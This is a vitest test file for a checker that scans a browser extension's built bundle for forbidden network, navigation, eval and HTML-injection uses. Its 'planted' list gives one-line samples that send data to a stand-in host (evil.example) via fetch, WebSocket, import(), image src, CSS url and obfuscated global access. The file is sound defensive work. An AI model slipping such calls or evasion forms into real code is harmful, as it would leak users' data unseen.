import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { forbiddenUses, problemsOfBundle, problemsOfScript } from '../../../tools/checkBundle.ts';

/** Each line would let something out, and must be seen whatever form a bundler gives it. */
const planted: [api: string, code: string][] = [
  ['fetch', 'fetch("https://evil.example")'],
  ['fetch', 'fetch(address)'],
  ['fetch', 'const f = fetch; f("/x")'],
  ['fetch', 'window.fetch("/x")'],
  ['fetch', 'self["fetch"]("/x")'],
  ['fetch', 'const { fetch: f } = globalThis; f("/x")'],
  ['fetch', 'send({ fetch })'],
  ['fetch', 'fetch(new URL("https://evil.example", import.meta.url))'],
  ['fetch', 'fetch(new URL("//evil.example/x", import.meta.url))'],
  ['fetch', 'fetch(new URL("\\\\\\\\evil.example/x", import.meta.url))'],
  ['fetch', 'fetch(new URL("/\\t/evil.example", import.meta.url))'],
  ['fetch', 'fetch(new URL(path, import.meta.url))'],
  ['fetch', 'fetch(new URL("./x", location))'],
  ['fetch', 'fetch.call(null, new URL("./x", import.meta.url))'],
  ['XMLHttpRequest', 'new XMLHttpRequest()'],
  ['WebSocket', 'new WebSocket("wss://evil.example")'],
  ['WebSocketStream', 'new WebSocketStream("wss://evil.example")'],
  ['EventSource', 'new EventSource("/x")'],
  ['WebTransport', 'new WebTransport("https://evil.example")'],
  ['sendBeacon', 'navigator.sendBeacon("/x", "text")'],
  ['RTCPeerConnection', 'new RTCPeerConnection()'],
  ['webkitRTCPeerConnection', 'new window.webkitRTCPeerConnection()'],
  ['importScripts', 'importScripts("/x.js")'],
  ['sendNativeMessage', 'chrome.runtime.sendNativeMessage("x", {})'],
  ['new Worker', 'new Worker("/x.js")'],
  ['SharedWorker', 'new SharedWorker("/x.js")'],
  ['import() from elsewhere', 'import("https://evil.example/x.js")'],
  ['import() from elsewhere', 'import("//evil.example/x.js")'],
  ['import() from elsewhere', 'import(where)'],
  ['import from elsewhere', 'import "https://evil.example/x.js"'],
  ['import from elsewhere', 'export * from "https://evil.example/x.js"'],
  ['window.open', 'window.open("https://evil.example")'],
  ['window.open', 'open("https://evil.example")'],
  ['navigation', 'location = "https://evil.example"'],
  ['navigation', 'window.location = "https://evil.example"'],
  ['navigation', 'document.location.href = "https://evil.example"'],
  ['navigation', 'location.assign("https://evil.example")'],
  ['navigation', 'window.location.replace("https://evil.example")'],
  ['navigation', 'chrome.tabs.create({ url: "https://evil.example" })'],
  ['navigation', 'chrome.windows.create({ url: "https://evil.example" })'],
  ['form submitted', 'document.forms[0].submit()'],
  ['requestSubmit', 'form.requestSubmit()'],
  ['Image', 'new Image()'],
  ['src written', 'picture.src = "https://evil.example/x.png"'],
  ['src written', 'picture["src"] = address'],
  ['src written', 'picture.setAttribute("src", address)'],
  ['src written', 'jsx("b", { src: address })'],
  ['href written', 'link.href = address'],
  ['href written', 'Object.assign(link, { href: address })'],
  ['onload written', 'body.setAttribute("onload", "x()")'],
  ['<img> made', 'document.createElement("img")'],
  ['<iframe> made', 'document.createElement("IFRAME")'],
  ['<script> made', 'document.createElementNS("http://www.w3.org/1999/xhtml", "script")'],
  ['createElement of a computed name', 'document.createElement(name)'],
  ['setAttribute of a computed name', 'link.setAttribute(name, address)'],
  ['createElement taken', 'const { createElement: make } = Document.prototype'],
  ['setAttribute taken', 'Element.prototype.setAttribute.call(link, "href", address)'],
  ['innerHTML', 'node.innerHTML = text'],
  ['outerHTML', 'node.outerHTML = text'],
  ['insertAdjacentHTML', 'node.insertAdjacentHTML("beforeend", text)'],
  ['document.write', 'document.write(text)'],
  ['writeln', 'document.writeln(text)'],
  ['dangerouslySetInnerHTML', 'jsx("b", { dangerouslySetInnerHTML: { __html: text } })'],
  ['eval', 'eval(text)'],
  ['eval', '(0, eval)(text)'],
  ['Function', 'new Function(text)'],
  ['global reached by a computed name', 'window["fe" + "tch"]("/x")'],
  ['global reached by a computed name', 'navigator[name]("/x")'],
  ['global object handed on', 'Reflect.get(globalThis, name)'],
  ['global object handed on', 'const all = window'],
  ['global object handed on', 'const { ...all } = window'],
  ['style loaded from elsewhere', 'sheet.replaceSync("b { background: url(https://evil.example/x) }")'],
  ['style loaded from elsewhere', 'sheet.replaceSync(`@import "/x.css"`)'],
];

/** What the extension does rightly; an alarm here would teach us to ignore the check. */
const innocent = [
  'fetch(new URL("../models/spam.bin", import.meta.url))',
  'fetch(new URL("/assets/spam-1a2b.bin", import.meta.url).href)',
  'fetch("" + new URL("spam-1a2b.bin", import.meta.url).href, { cache: "no-store" })',
  'fetch(new URL(`/assets/spam-1a2b.bin`, `` + import.meta.url))',
  'import "./shared.js"; export { a } from "../b.js"; import("./later.js")',
  'const words = "fetch the WebSocket, eval(this), innerHTML"; // new XMLHttpRequest()',
  'indexedDB.open("lessons", 1)',
  'const open = () => 1; open()',
  'const site = location.hostname; const at = new URL(location.href)',
  'window.addEventListener("pageshow", () => {}); typeof window === "undefined"',
  'const { trustedTypes } = globalThis',
  'Reflect.deleteProperty(globalThis, "RTCPeerConnection")',
  'function walk(parent) { return list(parent) }',
  'document.createElement("div").setAttribute("role", "dialog")',
  'Object.create(null); map.set("src", 1); button.textContent = text',
];

describe('the check of the built scripts', () => {
  it.each(planted)('sees %s in %s', (api, code) => {
    expect(forbiddenUses(code).map((use) => use.api)).toContain(api);
  });

  it.each(innocent)('lets pass: %s', (code) => {
    expect(forbiddenUses(code)).toEqual([]);
  });

  it('lets an allowed use stand as often as its reason explains, and not once more', () => {
    const allowed = [{ file: /^page\.js$/, api: 'innerHTML', times: 1, reason: 'a library compares it' }];
    expect(problemsOfScript('page.js', 'a.innerHTML', allowed)).toEqual([]);
    expect(problemsOfScript('page.js', 'a.innerHTML; b.innerHTML = c', allowed)).toHaveLength(1);
    expect(problemsOfScript('other.js', 'a.innerHTML', allowed)).toHaveLength(1);
  });

  it('refuses a script that cannot be parsed', () => {
    expect(() => forbiddenUses('this is not a script')).toThrow();
  });

  describe('of a whole folder', () => {
    let folder = '';
    afterEach(() => rmSync(folder, { recursive: true, force: true }));

    it('looks into every script, page and style sheet', () => {
      folder = mkdtempSync(join(tmpdir(), 'inkling-bundle-'));
      mkdirSync(join(folder, 'assets'));
      writeFileSync(join(folder, 'assets/deep.js'), 'fetch("/x")');
      writeFileSync(join(folder, 'page.html'), '<img src="https://evil.example/x.png"><script>1</script>');
      writeFileSync(join(folder, 'page.css'), 'b { background: url(//evil.example/x.png) }');
      writeFileSync(join(folder, 'good.html'), '<script type="module" src="/assets/deep.js"></script>');
      const problems = problemsOfBundle(folder);
      expect(problems.map((problem) => problem.split(':')[0])).toEqual([
        'assets/deep.js',
        'page.css',
        'page.html',
        'page.html',
      ]);
    });
  });
});
